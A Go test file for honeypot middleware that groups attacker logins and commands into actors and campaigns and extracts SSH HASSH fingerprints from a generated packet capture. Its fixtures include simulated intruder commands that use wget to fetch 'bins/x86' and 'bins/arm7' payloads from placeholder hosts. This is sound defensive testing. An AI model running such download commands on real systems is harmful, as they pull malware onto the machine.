@@ -0,0 +1,157 @@
+package middleware
+
+import (
+	"encoding/binary"
+	"io/ioutil"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcapgo"
+)
+
+func TestCorrelate(t *testing.T) {
+	now := time.Unix(1600000000, 0)
+	var events []Event
+	login := func(offset time.Duration, pot string, ip string, credential string) {
+		pair := strings.SplitN(credential, ":", 2)
+		events = append(events, Event{Time: now.Add(offset), Pot: pot, Kind: EventLogin, SourceIP: ip, Username: pair[0], Password: pair[1]})
+	}
+	command := func(offset time.Duration, pot string, ip string, value string) {
+		events = append(events, Event{Time: now.Add(offset), Pot: pot, Kind: EventCommand, SourceIP: ip, Command: value})
+	}
+
+	// two addresses running the same list are one actor
+	for _, ip := range []string{"192.0.2.1", "192.0.2.2"} {
+		pot := map[string]string{"192.0.2.1": "ssh", "192.0.2.2": "web"}[ip]
+		for _, credential := range []string{"root:root", "admin:admin", "root:123456"} {
+			login(time.Minute, pot, ip, credential)
+		}
+	}
+	command(2*time.Minute, "ssh", "192.0.2.1", "cd /tmp")
+	command(3*time.Minute, "ssh", "192.0.2.1", "wget http://203.0.113.5/bins/x86")
+
+	// another actor typing the same playbook, dropping a file
+	login(time.Hour, "telnet", "198.51.100.9", "root:root")
+	command(time.Hour, "telnet", "198.51.100.9", "cd /tmp")
+	command(time.Hour, "telnet", "198.51.100.9", "wget http://198.51.100.7/bins/arm7")
+	events = append(events, Event{Time: now.Add(time.Hour + 10*time.Minute), Pot: "telnet", Kind: EventFileChange, Path: "/tmp/arm7", Hash: "aa"})
+
+	// a scanner with nothing in common, a file dropped long after the login
+	events = append(events, Event{Time: now, Pot: "ssh", Kind: EventConnection, SourceIP: "203.0.113.77", Fields: map[string]string{"hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"}})
+	events = append(events, Event{Time: now.Add(3 * time.Hour), Pot: "ssh", Kind: EventFileChange, Path: "/tmp/y", Hash: "bb"})
+
+	correlation := Correlate(events)
+	var actors []string
+	for _, actor := range correlation.Actors {
+		actors = append(actors, strings.Join(actor.IPs, ",")+" "+strings.Join(actor.Pots, ",")+" "+strings.Join(actor.Files, ",")+" "+actor.Campaign)
+	}
+	campaign := correlationID("C-", []string{"file:aa", "playbook:" + PlaybookID([]string{"cd /tmp", "wget <url>"}), "url:http://198.51.100.7/bins/arm7", "url:http://203.0.113.5/bins/x86"})
+	expected := []string{
+		"192.0.2.1,192.0.2.2 ssh,web  " + campaign,
+		"198.51.100.9 telnet aa " + campaign,
+		"203.0.113.77 ssh  ",
+	}
+	if strings.Join(actors, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("actors not match\nexpected: %s\nactual: %s", strings.Join(expected, "; "), strings.Join(actors, "; "))
+	}
+	if len(correlation.Campaigns) != 1 || correlation.Campaigns[0].ID != campaign || strings.Join(correlation.Campaigns[0].Pots, ",") != "ssh,telnet,web" {
+		t.Errorf("campaigns not match\nexpected: %s on ssh,telnet,web, actual: %+v", campaign, correlation.Campaigns)
+	}
+	if correlation.Actors[2].HASSH[0] != "ec7378c1a92f5a8dde7e8b7a1ddf33d1" {
+		t.Errorf("hassh not match\nexpected: ec7378c1a92f5a8dde7e8b7a1ddf33d1, actual: %v", correlation.Actors[2].HASSH)
+	}
+
+	correlation.Annotate(events)
+	for _, event := range events {
+		if event.Hash == "aa" && event.Campaign != campaign {
+			t.Errorf("file campaign not match\nexpected: %s, actual: %s", campaign, event.Campaign)
+		}
+		if event.SourceIP == "192.0.2.2" && (event.Actor != correlation.Actors[0].ID || event.Campaign != campaign) {
+			t.Errorf("event actor not match\nexpected: %s %s, actual: %s %s", correlation.Actors[0].ID, campaign, event.Actor, event.Campaign)
+		}
+	}
+}
+
+func sshString(value string) []byte {
+	data := make([]byte, 4, 4+len(value))
+	binary.BigEndian.PutUint32(data, uint32(len(value)))
+	return append(data, value...)
+}
+
+func TestReadPcapEventsSSH(t *testing.T) {
+	dir, err := ioutil.TempDir("", "correlate")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	lists := []string{"curve25519-sha256", "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""}
+	payload := append([]byte{20}, make([]byte, 16)...)
+	for _, list := range lists {
+		payload = append(payload, sshString(list)...)
+	}
+	payload = append(payload, 0, 0, 0, 0, 0)
+	padding := 8 - (len(payload)+5)%8 + 8
+	packet := make([]byte, 5, 5+len(payload)+padding)
+	binary.BigEndian.PutUint32(packet, uint32(1+len(payload)+padding))
+	packet[4] = byte(padding)
+	packet = append(append(packet, payload...), make([]byte, padding)...)
+
+	fileName := filepath.Join(dir, "network.pcap")
+	file, err := os.Create(fileName)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writer := pcapgo.NewWriter(file)
+	_ = writer.WriteFileHeader(65536, layers.LinkTypeEthernet)
+	started := time.Unix(1600000000, 0)
+	for index, segment := range []struct {
+		tcp     *layers.TCP
+		payload []byte
+	}{
+		{&layers.TCP{SrcPort: 50000, DstPort: 22, SYN: true}, nil},
+		{&layers.TCP{SrcPort: 50000, DstPort: 22, PSH: true, ACK: true}, []byte("SSH-2.0-Go\r\n")},
+		{&layers.TCP{SrcPort: 50000, DstPort: 22, PSH: true, ACK: true}, packet[:20]},
+		{&layers.TCP{SrcPort: 50000, DstPort: 22, PSH: true, ACK: true}, packet[20:]},
+	} {
+		ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: net.ParseIP("192.0.2.1"), DstIP: net.ParseIP("172.18.0.2")}
+		_ = segment.tcp.SetNetworkLayerForChecksum(ip)
+		ethernet := &layers.Ethernet{SrcMAC: net.HardwareAddr{2, 0, 0, 0, 0, 1}, DstMAC: net.HardwareAddr{2, 0, 0, 0, 0, 2}, EthernetType: layers.EthernetTypeIPv4}
+		buffer := gopacket.NewSerializeBuffer()
+		if err := gopacket.SerializeLayers(buffer, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, ethernet, ip, segment.tcp, gopacket.Payload(segment.payload)); err != nil {
+			t.Fatal(err)
+		}
+		data := buffer.Bytes()
+		_ = writer.WritePacket(gopacket.CaptureInfo{Timestamp: started.Add(time.Duration(index) * time.Second), CaptureLength: len(data), Length: len(data)}, data)
+	}
+	_ = file.Close()
+
+	events, err := ReadPcapEvents(fileName, "ssh", parseSubnets([]string{"172.18.0.0/16"}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// md5 of curve25519-sha256;aes128-ctr;hmac-sha2-256;none
+	expected := "SSH-2.0-Go e97d07603350d1111ec2b64bf25413c9"
+	if len(events) != 1 || events[0].Fields["ssh_banner"]+" "+events[0].Fields["hassh"] != expected {
+		t.Errorf("ssh fingerprint not match\nexpected: %s, actual: %+v", expected, events)
+	}
+}
+
+func TestReadKexInitMalformed(t *testing.T) {
+	for _, data := range [][]byte{
+		{0, 0, 0, 0, 0, 0},
+		{0, 0, 0, 1, 4, 20},
+		{0, 0, 0, 8, 200, 20, 0, 0, 0, 0, 0, 0},
+		append([]byte{0, 0, 0, 18, 0, 20}, make([]byte, 16)...),
+	} {
+		if hassh, ok := readKexInit(data); ok {
+			t.Errorf("malformed kexinit not rejected\nexpected: false, actual: %s", hassh)
+		}
+	}
+}